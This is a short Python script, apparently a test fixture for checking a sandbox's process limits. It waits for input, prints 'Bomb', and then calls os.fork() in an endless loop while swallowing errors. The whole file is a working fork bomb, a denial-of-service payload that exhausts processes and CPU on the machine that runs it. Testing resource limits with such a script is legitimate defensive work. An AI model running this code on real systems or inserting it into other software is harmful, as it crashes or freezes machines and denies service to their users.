# Forks as often as it can.
import os
input()
print("Bomb", flush=True)
input()
while True:
    try:
        os.fork()
    except OSError:
        pass
